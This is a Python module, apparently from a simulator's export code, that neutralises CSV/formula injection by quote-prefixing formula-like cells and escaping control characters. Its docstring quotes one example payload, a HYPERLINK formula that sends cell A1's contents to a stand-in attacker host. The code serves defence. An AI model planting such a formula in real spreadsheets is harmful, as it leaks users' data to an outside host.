"""Text cells a spreadsheet cannot run as formulas, and that an XLSX file can hold.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, tab or carriage return) as a formula: a scenario or category named
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would become a live link, or worse,
when an export is opened (CSV or formula injection). So every export writes text as
text:

- CSV: a **text** cell starting with one of :data:`FORMULA_PREFIXES` gets a leading
  ``'`` (OWASP's recommendation), so ``=1+1`` is written ``'=1+1``; numbers are written
  as numbers and never prefixed (``-77.4`` stays a number); control characters are
  shown as escapes as in XLSX;
- XLSX: text is always a string cell, never a formula, and such a cell also gets
  Excel's "quote prefix" so editing it keeps it text (:mod:`simulator.export.xlsx`).

XLSX (XML 1.0) cannot hold most control characters, a carriage return would end a CSV
row, and no export should hide them: :func:`visible` writes them as escapes (``\\x01``,
``\\r``, ``\\ud800``); tab and newline are kept (CSV quotes a newline).
"""

from __future__ import annotations

import unicodedata

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet read a cell as a formula (OWASP)."""

_KEEP = frozenset("\t\n")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_PREFIXES)


def csv_cell(text: str) -> str:
    """A CSV text cell: ``text`` with control characters shown (:func:`visible`: a lone
    carriage return would end the row in a spreadsheet) and ``'`` in front when it looks
    like a formula."""
    text = visible(text)
    return "'" + text if formula_like(text) else text


def visible(text: str) -> str:
    """``text`` with control characters, lone surrogates and non-characters escaped
    (``a\\x01b``); tab and newline are kept (a carriage return is escaped too: XML
    would silently turn it into a newline)."""
    if text.isprintable():
        return text
    return "".join(c if c in _KEEP or _shown(c) else _escape(c) for c in text)


def _shown(c: str) -> bool:
    return unicodedata.category(c) not in ("Cc", "Cs") and c not in ("\ufffe", "\uffff")


def _escape(c: str) -> str:
    code = ord(c)
    if c == "\r":
        return "\\r"
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
